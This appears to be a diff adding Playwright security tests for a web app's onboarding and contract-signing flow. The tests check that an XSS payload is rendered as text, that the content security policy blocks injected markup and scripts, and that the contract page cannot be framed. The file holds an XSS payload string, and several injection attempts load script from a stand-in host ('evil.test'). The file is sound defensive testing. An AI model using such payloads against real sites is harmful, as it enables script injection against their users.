@@ -1,0 +1,123 @@
+import { ROUTES } from '#machines/journey/routes.ts';
+import { FRAME } from '#src/content/frame.ts';
+import { pdfNamed } from '#test/e2e/support/files.ts';
+import { HEADINGS } from '#test/e2e/support/headings.ts';
+import { expectContractShown, signAndSubmit } from '#test/e2e/support/placeSteps.ts';
+import { CONNECTED, expect, expectScreen, test, visitAs } from '#test/e2e/support/test.ts';
+
+const PAYLOAD = '"><img src=x onerror=__pwned=1><svg onload=__pwned=1>';
+/** What would come of the payload, if it were taken for markup. */
+const COME_OF_IT = 'img[src="x"], [onerror], [onload]';
+
+test.describe('F-81 markup where a text is expected', () => {
+  test('is text at every place of the journey: in a name, an address, a file name, a signature and on the contract', async ({
+    page,
+  }) => {
+    const user = JSON.stringify({ email: `${PAYLOAD}@example.com`, name: PAYLOAD });
+    await visitAs(page, { ...CONNECTED, user });
+    await page.goto(`/${PAYLOAD}#${PAYLOAD}`);
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Page not found');
+    await page.getByRole('button', { name: FRAME.menu.label(PAYLOAD) }).click();
+    await expect(page.getByText(PAYLOAD, { exact: true })).toBeVisible();
+    await expect(page.locator(COME_OF_IT)).toHaveCount(0);
+
+    await page.goto(ROUTES.entityDetails.path);
+    await expectScreen(page, 'entityDetails', HEADINGS.entityDetails);
+    await page.getByLabel('Business address').fill(PAYLOAD);
+    await page.getByLabel('Owner 1 full name').fill(PAYLOAD);
+    const articles = page.getByRole('group', { name: /^Articles of Organization/ });
+    await articles.locator('input[type=file]').setInputFiles(pdfNamed(`${PAYLOAD}.pdf`));
+    await expect(articles).toContainText(`${PAYLOAD}.pdf`);
+    await expect(page.locator(COME_OF_IT)).toHaveCount(0);
+    await page.getByRole('checkbox', { name: /authorize/ }).check();
+    await page.getByRole('button', { name: 'Continue', exact: true }).click();
+    await expectScreen(page, 'signIrsForm', HEADINGS.signIrsForm);
+
+    await page.goto(ROUTES.contract.path);
+    await expectScreen(page, 'contract', HEADINGS.contract);
+    await expectContractShown(page);
+    await expect(page.getByText(PAYLOAD).first()).toBeVisible();
+    await signAndSubmit(page, PAYLOAD);
+    await page.getByRole('button', { name: 'Continue to Dashboard' }).click();
+    await expect(page.getByText(`Signed by ${PAYLOAD} on`)).toBeVisible();
+    await expect(page.locator(COME_OF_IT)).toHaveCount(0);
+    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
+  });
+});
+
+test.describe('F-82 our own code puts markup or inline code into the page', () => {
+  test('the browser refuses it: no element comes of it and nothing runs', async ({ page, expectNoise }) => {
+    expectNoise(/Trusted|Content Security Policy|content-security-policy/i);
+    await page.goto(ROUTES.offers.path);
+    await expectScreen(page, 'offers', HEADINGS.offers);
+    const refused = await page.evaluate((payload) => {
+      const refusals: string[] = [];
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        refusals.push(effectiveDirective),
+      );
+      const place = document.body.appendChild(document.createElement('div'));
+      const attempts: readonly (() => void)[] = [
+        () => (place.innerHTML = payload),
+        () => place.insertAdjacentHTML('beforeend', payload),
+        () => place.setHTMLUnsafe(payload),
+        () => document.write(payload),
+        () => (document.createElement('iframe').srcdoc = payload),
+        () => (document.createElement('script').text = '__pwned=1'),
+        () => (document.createElement('script').src = '//evil.test/x.js'),
+        () => place.setAttribute('onclick', '__pwned=1'),
+        () => void new Worker('//evil.test/x.js'),
+      ];
+      const thrown = attempts.map((attempt) => {
+        try {
+          attempt();
+          return 'done';
+        } catch (error) {
+          return error instanceof TypeError ? 'refused' : String(error);
+        }
+      });
+      place.setAttribute('style', 'color: red');
+      const styles = document.head.appendChild(document.createElement('style'));
+      styles.textContent = 'body { display: none }';
+      return new Promise<{ thrown: string[]; refusals: string[]; elements: number }>((resolve) => {
+        // The browser tells of a refusal in a later task.
+        setTimeout(() => resolve({ thrown, refusals, elements: place.childElementCount }));
+      });
+    }, PAYLOAD);
+    expect(refused).toEqual({
+      thrown: Array.from({ length: 9 }, () => 'refused'),
+      refusals: expect.arrayContaining(['require-trusted-types-for', 'style-src-attr', 'style-src-elem']),
+      elements: 0,
+    });
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
+  });
+});
+
+test.describe('F-84 another page shows the contract in a frame', () => {
+  test('the browser refuses the frame, and nothing of the contract is in it', async ({
+    page,
+    baseURL,
+    expectNoise,
+  }) => {
+    const OTHER = 'https://other.test/';
+    // A name in place of this host's: a browser lets no page of the internet ask this host for anything.
+    const PRODUCT = 'https://product.test';
+    expectNoise(/\.test|frame|chrome-error/i);
+    const failures: (string | undefined)[] = [];
+    page.on('requestfailed', (request) => failures.push(request.failure()?.errorText));
+    const body = `<h1>Other</h1><iframe src="${PRODUCT}${ROUTES.contract.path}"></iframe>`;
+    await page.route(OTHER, (route) => route.fulfill({ contentType: 'text/html', body }));
+    await page.route(`${PRODUCT}/**`, async (route) => {
+      const response = await route.fetch({ url: `${baseURL}${ROUTES.contract.path}` });
+      await route.fulfill({ response });
+    });
+    await page.goto(OTHER);
+    await expect.poll(() => failures).toEqual(['net::ERR_BLOCKED_BY_RESPONSE']);
+    await expect
+      .poll(() => page.frames().map((frame) => frame.url()))
+      .toEqual([OTHER, expect.stringMatching(/^chrome-error:/)]);
+    await expect(page.frameLocator('iframe').getByRole('heading', { level: 1, name: HEADINGS.contract })).toHaveCount(
+      0,
+    );
+  });
+});
